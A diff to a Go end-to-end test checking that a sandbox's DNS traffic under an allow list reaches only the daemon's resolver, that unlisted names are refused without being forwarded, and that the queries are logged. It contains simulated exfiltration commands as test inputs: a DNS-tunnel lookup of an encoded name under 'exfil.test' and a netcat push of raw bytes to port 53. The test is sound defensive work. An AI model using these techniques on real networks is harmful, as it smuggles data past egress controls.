@@ -3,7 +3,9 @@ package e2e
 import (
 	"encoding/binary"
 	"encoding/json"
+	"fmt"
 	"io"
+	"net/http"
 	"net/netip"
 	"os"
 	"path/filepath"
@@ -88,12 +90,15 @@ func dnsReply(query []byte) []byte {
 	return b
 }
 
-// TestEgressDNSOnlyToResolver: under an allow list, port 53 is open only
-// toward the nameserver the sandbox's resolv.conf names (derived from the
-// daemon's --host-resolv-conf). A sandbox cannot reach port 53 (UDP or TCP)
-// of any other host — a channel around the list — while names still
-// resolve through its resolver.
-func TestEgressDNSOnlyToResolver(t *testing.T) {
+// TestEgressDNS: under an allow list a sandbox's DNS goes only to the
+// daemon's resolver, which applies the list to names. Port 53 of any
+// other host (UDP or TCP) is no channel out: nothing arrives there. A name
+// outside the list is refused without being forwarded, so no query can
+// tunnel data through the host's recursive resolver; allowed names resolve
+// through the host's resolvers (--host-resolv-conf, which also fills the
+// sandbox's resolv.conf), names the proxy pins (--egress-resolve) resolve
+// as the proxy dials them, and every query is in the egress log.
+func TestEgressDNS(t *testing.T) {
 	for _, rt := range runtimes() {
 		t.Run(rt, func(t *testing.T) { testEgressDNS(t, rt) })
 	}
@@ -104,37 +109,70 @@ func testEgressDNS(t *testing.T, rt string) {
 	resolver, other := in.addr(0), in.addr(1)
 	toResolver, toOther := in.serveDNS(t, resolver), in.serveDNS(t, other)
 	hostResolv := filepath.Join(t.TempDir(), "resolv.conf")
-	// The loopback entry is dropped, as systemd-resolved's would be.
-	if err := os.WriteFile(hostResolv, []byte("nameserver 127.0.0.53\nnameserver "+resolver+"\n"), 0o644); err != nil {
+	if err := os.WriteFile(hostResolv, []byte("nameserver "+resolver+"\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	d := startDaemonArgs(t, rt, "", "--host-resolv-conf", hostResolv)
+	d := startDaemonArgs(t, rt, "", "--host-resolv-conf", hostResolv, "--egress-resolve", "pinned.test="+in.addr(2))
 	sn := readySnapshot(t, d.Client, "dns", testImage(t))
 	c := d.Client
 	sb := newSandbox(t, c, sn.ID, func(r *protocol.CreateSandboxRequest) {
 		r.Name = "dns-" + rt
-		r.ProxyConfig = json.RawMessage(`{"access_control":{"allow_list":["allowed.test"]}}`)
+		r.ProxyConfig = json.RawMessage(`{"access_control":{"allow_list":["allowed.test","pinned.test"]}}`)
 	})
 
-	if got := mustRun(t, c, sb.Name, "cat /etc/resolv.conf"); !strings.Contains(got, "nameserver "+resolver) || strings.Contains(got, "127.0.0.53") {
-		t.Fatalf("resolv.conf = %q, want nameserver %s only", got, resolver)
+	if got := mustRun(t, c, sb.Name, "cat /etc/resolv.conf"); !strings.Contains(got, "nameserver "+resolver) {
+		t.Fatalf("resolv.conf = %q, want nameserver %s", got, resolver)
 	}
-	// Resolution through the configured resolver works (UDP), and TCP
-	// to it connects.
 	allowed(t, c, sb.Name, "nslookup allowed.test 2>&1", dnsAnswer)
 	if toResolver.Load() == 0 {
-		t.Fatal("the resolver saw no query")
+		t.Fatal("the host's resolver saw no forwarded query")
 	}
-	allowed(t, c, sb.Name, "nc -w 3 "+resolver+" 53 </dev/null 2>&1; echo rc=$?", "rc=0")
+	allowed(t, c, sb.Name, "nslookup pinned.test 2>&1", in.addr(2))
 
-	// Any other address's port 53: UDP gets no answer and never arrives;
-	// TCP is refused at once.
-	out, _, code := run(t, c, sb.Name, "nslookup allowed.test "+other+" 2>&1")
+	// A name outside the list never leaves the daemon.
+	before := toResolver.Load()
+	out, _, code := run(t, c, sb.Name, "nslookup c2vjcmv0.exfil.test 2>&1")
 	if code == 0 || strings.Contains(out, dnsAnswer) {
-		t.Fatalf("nslookup via %s (not the resolver): exit %d, %q; want failure", other, code, out)
+		t.Fatalf("nslookup of a name outside the list: exit %d, %q; want failure", code, out)
 	}
-	deniedFast(t, c, sb.Name, "nc -w 3 "+other+" 53 </dev/null 2>&1; exit 1", "refused", "unreachable")
+	if n := toResolver.Load(); n != before {
+		t.Fatalf("a query for a name outside the list was forwarded (%d → %d)", before, n)
+	}
+
+	// Port 53 of another host, over UDP and TCP: nothing arrives there.
+	run(t, c, sb.Name, "nslookup allowed.test "+other+" 2>&1")
+	run(t, c, sb.Name, "echo raw-bytes-out | nc -w 2 "+other+" 53 2>&1")
 	if n := toOther.Load(); n != 0 {
 		t.Fatalf("%d queries or connections reached port 53 of %s", n, other)
+	}
+
+	req, _ := http.NewRequest("GET", d.Endpoint+"/v2/sandboxes/boxes/"+sb.Name+"/egress-log", nil)
+	req.Header.Set("X-Api-Key", testKey)
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	var log struct {
+		DNS struct {
+			Allowed, Denied uint64
+			Queries         []struct {
+				Host    string
+				Type    string
+				Allowed bool
+			}
+		}
+	}
+	if err := json.NewDecoder(resp.Body).Decode(&log); err != nil {
+		t.Fatal(err)
+	}
+	seen := map[string]bool{}
+	for _, q := range log.DNS.Queries {
+		if q.Type == "A" {
+			seen[q.Host+" "+fmt.Sprint(q.Allowed)] = true
+		}
+	}
+	if !seen["allowed.test true"] || !seen["c2vjcmv0.exfil.test false"] || log.DNS.Denied == 0 {
+		t.Fatalf("egress log's DNS: %+v", log.DNS)
 	}
 }
